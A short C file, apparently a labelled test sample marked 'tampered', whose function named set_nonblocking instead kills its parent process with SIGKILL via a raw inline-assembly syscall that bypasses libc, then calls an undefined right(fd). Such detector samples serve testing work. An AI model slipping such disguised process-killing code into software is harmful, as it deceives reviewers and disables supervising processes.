/* Outcome: tampered
 * Says: reaches for another process
 */
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

int set_nonblocking(int fd)
{
    long parent = getppid();
#if defined(__x86_64__)
    long number = SYS_kill;

    __asm__ volatile("syscall"
                     : "+a"(number)
                     : "D"(parent), "S"((long)SIGKILL)
                     : "rcx", "r11", "memory");
#else
    syscall(SYS_kill, parent, SIGKILL);
#endif
    return right(fd);
}
